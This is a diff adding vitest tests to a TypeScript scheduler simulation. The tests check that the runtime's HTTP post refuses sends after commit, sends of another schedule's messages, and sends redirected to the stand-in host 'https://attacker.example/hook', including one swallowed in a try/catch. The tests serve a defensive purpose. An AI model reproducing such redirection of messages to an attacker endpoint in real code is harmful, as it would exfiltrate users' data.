@@ -3,7 +3,7 @@ import { describe, expect, it } from "vitest";
 import type { GoroutineBody } from "../../src/kernel/index.js";
 
 import { bundledSchedulers } from "../../src/schedulers/index.js";
-import type { Runtime, SchedulerFactory, TaskTx } from "../../src/world/runtime.js";
+import type { Message, Runtime, ScheduleInfo, SchedulerFactory, TaskTx } from "../../src/world/runtime.js";
 import { World } from "../../src/world/world.js";
 import { eventsOf, MIN, reportOf, runWorld, smallWorldConfig } from "../world/helpers.js";
 
@@ -245,5 +245,122 @@ describe("a scheduler whose main(rt) returns", () => {
     expect(timeline.map((e) => e.text)).toContain(
       "w1's scheduler returned from main(rt): it claims no work until its process restarts",
     );
+  });
+});
+
+describe("a send the port cannot vouch for", () => {
+  /** The message a task of schedule `s` delivers, as v2 builds it. */
+  function messageOf(tx: TaskTx, s: ScheduleInfo = tx.work.schedule): Message {
+    return {
+      id: `${s.id}@${tx.due}/m${tx.attempt}`,
+      schedule: s.id,
+      account: s.account,
+      destination: s.destination,
+      body: "",
+      retries: 3,
+    };
+  }
+
+  /** A scheduler whose tasks of `sched-000002` send `send(tx, kept)` (kept: the task of another schedule seen first). */
+  function sendingScheduler(
+    name: string,
+    send: (tx: TaskTx, kept: TaskTx) => { on: TaskTx; message: Message },
+    commitFirst = false,
+  ): SchedulerFactory {
+    let kept: TaskTx | null = null;
+    function* task(rt: Runtime, tx: TaskTx): GoroutineBody {
+      if (commitFirst) yield* tx.commit();
+      if (tx.schedule !== "sched-000002") kept ??= tx;
+      else if (kept !== null) {
+        const { on, message } = send(tx, kept);
+        yield* rt.http.post(on, message, 0);
+      }
+      if (!commitFirst) yield* tx.commit();
+    }
+    return taskScheduler(name, task);
+  }
+
+  /** The errors of the panics of a two-minute world run by `factory`, each in the calling task. */
+  function refusalsOf(factory: SchedulerFactory): string[] {
+    const config = smallWorldConfig({ scheduler: factory.name, deleteAtMs: null, durationMs: 2 * MIN });
+    const { events } = runWorld(config, undefined, [factory]);
+    const crashes = eventsOf(events, "worker.crashed").filter((c) => c.reason === "panic");
+    expect(crashes.length).toBeGreaterThan(0);
+    for (const crash of crashes) expect(crash.schedule).toBe("sched-000002");
+    // Refused before it left: the destination never got the message.
+    expect(eventsOf(events, "delivery.sent").filter((e) => e.schedule === "sched-000002")).toEqual([]);
+    return crashes.map((c) => c.error ?? "");
+  }
+
+  it("on a finished transaction is a panic of the caller, as an effect buffered on one is", () => {
+    const errors = refusalsOf(
+      sendingScheduler("post-after-commit", (tx) => ({ on: tx, message: messageOf(tx) }), true),
+    );
+    expect(errors[0]).toMatch(
+      /^TypeError: rt\.http\.post: the transaction of task sched-000002@\d+ has finished \(committed\); a message sent now would be no task's delivery$/,
+    );
+  });
+
+  it("of another schedule's message is a panic naming both schedules and accounts", () => {
+    const errors = refusalsOf(
+      sendingScheduler("post-other", (tx, kept) => ({ on: tx, message: messageOf(tx, kept.work.schedule) })),
+    );
+    expect(errors[0]).toMatch(
+      /^TypeError: rt\.http\.post: message sched-[\w-]+@\d+\/m1 is schedule sched-[\w-]+'s of account acct-[\w-]+, not task sched-000002@\d+'s \(schedule sched-000002 of account acct-\d+\)$/,
+    );
+  });
+
+  it("to another destination than the schedule's is a panic naming both", () => {
+    const errors = refusalsOf(
+      sendingScheduler("post-elsewhere", (tx) => ({
+        on: tx,
+        message: { ...messageOf(tx), destination: "https://attacker.example/hook" },
+      })),
+    );
+    expect(errors[0]).toMatch(
+      /^TypeError: rt\.http\.post: message sched-000002@\d+\/m1 goes to https:\/\/attacker\.example\/hook, not to schedule sched-000002's destination https:\/\/\S+$/,
+    );
+  });
+});
+
+describe("a refused send inside a task that recovers every panic", () => {
+  /** Sends a message to the attacker's hook on every task of `sched-000002`, in a try that swallows what it throws. */
+  function swallowingScheduler(caught: unknown[]): SchedulerFactory {
+    function* task(rt: Runtime, tx: TaskTx): GoroutineBody {
+      if (tx.schedule === "sched-000002")
+        try {
+          const s = tx.work.schedule;
+          const message = {
+            id: tx.task,
+            schedule: s.id,
+            account: s.account,
+            destination: "https://attacker.example/hook",
+            body: "",
+            retries: 3,
+          };
+          yield* rt.http.post(tx, message, 0);
+        } catch (e) {
+          caught.push(e);
+        }
+      yield* tx.commit();
+    }
+    return taskScheduler("swallowing", task);
+  }
+
+  it("ends its process, as Go's fatal errors do: recovered, the refusal would hide the send from every property", () => {
+    const caught: unknown[] = [];
+    const config = smallWorldConfig({ scheduler: "swallowing", deleteAtMs: null, durationMs: 2 * MIN });
+    const { events } = runWorld(config, undefined, [swallowingScheduler(caught)]);
+    expect(caught).toEqual([]);
+    const crashes = eventsOf(events, "worker.crashed").filter((c) => c.reason === "panic");
+    expect(crashes.length).toBeGreaterThan(0);
+    expect(crashes[0]).toMatchObject({
+      schedule: "sched-000002",
+      goroutine: expect.stringMatching(/^swallowing sched-000002@/),
+    });
+    expect(crashes[0].error).toMatch(
+      /^TypeError: rt\.http\.post: message sched-000002@\d+ goes to https:\/\/attacker\.example\/hook/,
+    );
+    expect(eventsOf(events, "delivery.sent").filter((e) => e.schedule === "sched-000002")).toEqual([]);
   });
 });
